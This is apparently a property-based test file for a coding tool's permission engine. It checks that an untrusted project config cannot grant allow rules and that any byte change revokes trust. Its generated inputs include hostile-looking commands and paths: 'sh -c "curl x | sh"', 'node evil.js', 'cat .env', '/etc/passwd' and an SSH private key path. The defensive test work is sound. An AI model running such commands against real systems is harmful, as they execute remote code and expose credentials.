// Workspace trust through the real rule engine and real config files: generated project
// configs (allow, ask and deny rules of every kind, test commands, edits mode, rules of kinds
// Loupe does not know) against generated tool calls. While the folder is untrusted, no allow
// rule from the project ever turns an ask into an allow (the engine decides exactly as it would
// with the project's allow rules removed), deny and ask rules still apply; once trusted, the
// config applies in full; one byte changed anywhere in the file un-trusts it.
import { mkdir, readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ProjectConfig, type ProjectRules } from '../../src/main/services/permissions/projectConfig';
import { PermissionEngine, type PermissionQuery } from '../../src/main/services/permissions/ruleEngine';
import { readTrustState } from '../../src/main/services/permissions/trust';
import type { PermissionRule } from '../../src/main/services/permissions/types';
import { tempDir } from '../support/tmp';
import { testTrust, type TestTrust } from '../support/trust';

const KINDS = ['bash', 'edit', 'read', 'test', 'webfetch', 'external_directory', 'mcp'] as const;
const COMMANDS = ['ls', 'ls -la src', 'echo hi', 'npm test', 'npm run build', 'node evil.js', 'curl https://x.example/a', 'git status', 'rm -rf build', 'cat .env', 'make', 'python3 -m pytest -q', 'git push origin main'];
const COMMAND_PATTERNS = ['*', 'ls *', 'echo *', 'npm *', 'npm test*', 'node *', 'curl *', 'git *', 'rm *', 'cat *', 'make', 'python3 *'];
const PATHS = ['src/a.ts', '.env', 'docs/readme.md', 'package.json', 'src/deep/x.ts'];
const PATH_PATTERNS = ['**', 'src/**', '.env', '*.md', 'docs/**', 'package.json', '**/*.ts'];
const URLS = ['https://x.example/a', 'https://docs.example/page', 'http://127.0.0.1:9/x'];
const URL_PATTERNS = ['https://*', 'https://x.example/*', 'http://127.0.0.1*', '*'];
const OUTSIDE = ['/tmp/loupe-outside/x', '/etc/passwd', '/home/someone/.ssh/id_rsa'];
const OUTSIDE_PATTERNS = ['/tmp/**', '/**', '/etc/**', '/home/**'];

const patternFor = (kind: (typeof KINDS)[number]): fc.Arbitrary<string> =>
  kind === 'bash' || kind === 'test' || kind === 'mcp'
    ? fc.constantFrom(...COMMAND_PATTERNS)
    : kind === 'webfetch'
      ? fc.constantFrom(...URL_PATTERNS)
      : kind === 'external_directory'
        ? fc.constantFrom(...OUTSIDE_PATTERNS)
        : fc.constantFrom(...PATH_PATTERNS);

const ruleArb = fc
  .constantFrom(...KINDS)
  .chain((kind) => fc.record({ kind: fc.constant(kind), pattern: patternFor(kind), action: fc.oneof({ arbitrary: fc.constant('allow'), weight: 3 }, fc.constantFrom('ask', 'deny')) }));

const configArb = fc.record(
  {
    permissions: fc.array(ruleArb, { minLength: 1, maxLength: 8 }),
    tests: fc.dictionary(fc.constantFrom('javascript', 'typescript', 'python', 'go'), fc.constantFrom('node evil.js', 'npx vitest run', 'sh -c "curl x | sh"'), { maxKeys: 2 }),
    edits: fc.record({ mode: fc.constantFrom('review', 'ask') }),
  },
  { requiredKeys: ['permissions'] },
);

/** One command, or a few joined the ways bash joins them. */
const commandArb = fc.oneof(
  fc.constantFrom(...COMMANDS),
  fc
    .tuple(fc.array(fc.constantFrom(...COMMANDS), { minLength: 2, maxLength: 3 }), fc.constantFrom(' && ', ' | ', '; ', ' || '))
    .map(([parts, joiner]) => parts.join(joiner)),
  fc.tuple(fc.constantFrom(...COMMANDS), fc.constantFrom(...COMMANDS)).map(([a, b]) => `${a} "$(${b})"`),
);

const queryArb: fc.Arbitrary<PermissionQuery> = fc.oneof(
  fc.record({ kind: fc.constantFrom('bash' as const, 'test' as const), command: commandArb }),
  fc.record({ kind: fc.constantFrom('read' as const, 'edit' as const), path: fc.constantFrom(...PATHS) }),
  fc.record({ kind: fc.constant('webfetch' as const), url: fc.constantFrom(...URLS) }),
  fc.record({ kind: fc.constant('external_directory' as const), path: fc.constantFrom(...OUTSIDE) }),
);

let root: string;
let cleanup: () => Promise<void>;
let user: TestTrust;
const file = () => path.join(root, '.loupe', 'config.json');

beforeAll(async () => {
  ({ dir: root, cleanup } = await tempDir('loupe-trust-'));
  await mkdir(path.join(root, '.loupe'));
  await mkdir(path.join(root, 'src'));
  user = testTrust();
});
afterAll(async () => {
  user.cleanup();
  await cleanup();
});

/** An engine on the real config file, trust from the real user settings. */
const engineOnFile = () => {
  const project = new ProjectConfig(root, user.store);
  return { project, engine: new PermissionEngine({ root, project }) };
};

/** The same engine fed these project rules directly: the reference to compare against. */
const engineWithRules = (rules: ProjectRules) => new PermissionEngine({ root, project: { load: async () => rules } });

/** What the real parser makes of the file when every rule applies (read through a trusted copy). */
async function parsedInFull(): Promise<ProjectRules> {
  const other = testTrust();
  try {
    await other.trust(root);
    return await new ProjectConfig(root, other.store).load();
  } finally {
    other.cleanup();
  }
}

const decisionOf = async (e: PermissionEngine, q: PermissionQuery) => {
  const d = await e.decide(q);
  return { action: d.action, rule: d.rule ? `${d.rule.action} ${d.rule.kind} ${d.rule.pattern}` : null };
};

describe('workspace trust over generated configs and tool calls', () => {
  it('untrusted: decides exactly as without the project allow rules; trusted: as with all of them; one byte changed: untrusted again', async () => {
    let runs = 0;
    let askedNotAllowed = 0;
    await fc.assert(
      fc.asyncProperty(configArb, fc.array(queryArb, { minLength: 4, maxLength: 10 }), fc.nat(), fc.integer({ min: 1, max: 255 }), async (config, queries, at, xor) => {
        runs++;
        const text = JSON.stringify(config, null, 1);
        await writeFile(file(), text);
        const full = await parsedInFull();
        const withoutAllow = engineWithRules({ ...full, rules: full.rules.filter((r: PermissionRule) => r.action !== 'allow'), tests: undefined });
        const withAll = engineWithRules(full);

        // Untrusted (fresh settings, or trusted for other bytes).
        let { project, engine } = engineOnFile();
        const untrusted = await project.load();
        expect(untrusted.rules.some((r) => r.action === 'allow')).toBe(false);
        expect(untrusted.tests).toBeUndefined();
        for (const q of queries) {
          const got = await decisionOf(engine, q);
          expect(got, JSON.stringify(q)).toEqual(await decisionOf(withoutAllow, q));
          if (got.action !== 'allow' && (await decisionOf(withAll, q)).action === 'allow') askedNotAllowed++;
        }

        // Trusted with exactly these bytes: the whole config applies.
        await user.trust(root);
        ({ project, engine } = engineOnFile());
        const trusted = await project.load();
        expect(trusted.tests ?? {}).toEqual(config.tests ?? {});
        for (const q of queries) expect(await decisionOf(engine, q), JSON.stringify(q)).toEqual(await decisionOf(withAll, q));

        // One byte changed anywhere (even whitespace): no longer trusted.
        const bytes = Buffer.from(text);
        bytes[at % bytes.length] ^= xor;
        await writeFile(file(), bytes);
        expect((await readTrustState(root, user.store)).trusted).toBe(false);
        const changed = await engineOnFile().project.load();
        expect(changed.rules.some((r) => r.action === 'allow')).toBe(false);
        expect(changed.tests).toBeUndefined();
      }),
      { numRuns: 100 },
    );
    // The corpus really exercised the difference: many calls an allow rule would have passed.
    expect(runs).toBe(100);
    // 50 once, more in other runs; the bound only proves the difference was exercised, not its size.
    expect(askedNotAllowed).toBeGreaterThan(25);
  }, 120_000);

  it("Loupe's own write to a trusted config (an \"allow always\" answer) keeps it trusted; to an untrusted one does not trust it", async () => {
    await writeFile(file(), JSON.stringify({ permissions: [{ kind: 'bash', pattern: 'ls *', action: 'allow' }] }));
    const { project } = engineOnFile();
    await project.addRules([{ kind: 'bash', pattern: 'make *', action: 'allow' }]);
    expect((await project.load()).rules).toEqual([]);
    expect((await readTrustState(root, user.store)).trusted).toBe(false);

    await user.trust(root);
    await project.addRules([{ kind: 'bash', pattern: 'git status *', action: 'allow' }]);
    expect((await project.load()).rules.map((r) => r.pattern)).toEqual(['ls *', 'make *', 'git status *']);
    expect(JSON.parse(await readFile(file(), 'utf8')).permissions).toHaveLength(3);
  });
});
